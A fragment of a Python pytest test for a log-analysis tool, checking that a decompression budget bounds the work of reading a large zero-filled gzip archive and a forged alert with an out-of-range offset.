    # an archive of zeros and an alert whose offset lies beyond everything: the budget bounds the work
    monkeypatch.setattr(learning, "PACKED_BUDGET", 3 * 2**20)
    (tmp_path / "messages.2.gz").write_bytes(gzip.compress(b"\0" * (64 * 2**20)))
    forged = _alert(id="f1", file=str(log), offset=10**12, line=lines[5])
    path.write_text(forged.to_json() + "\n" + alerts[0].to_json() + "\n")
    caplog.clear()
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(path, fmt="syslog", stream="file")
    assert "0.00293 GiB decompressed for alerts' context in this run" in caplog.text, caplog.text[-2000:]
    assert caplog.text.count("decompressed for alerts' context") == 1  # said once
    packed = learning._Packed(budget=10**9)
    fd = os.open(tmp_path / "messages.2.gz", os.O_RDONLY)
    assert packed.read(str(tmp_path / "messages.2.gz"), fd, "gzip", 64 * 2**20 + 5, 64 * 2**20 + 10) is None  # beyond its end
    assert 10**9 - packed.budget == 64 * 2**20
    packed.close()
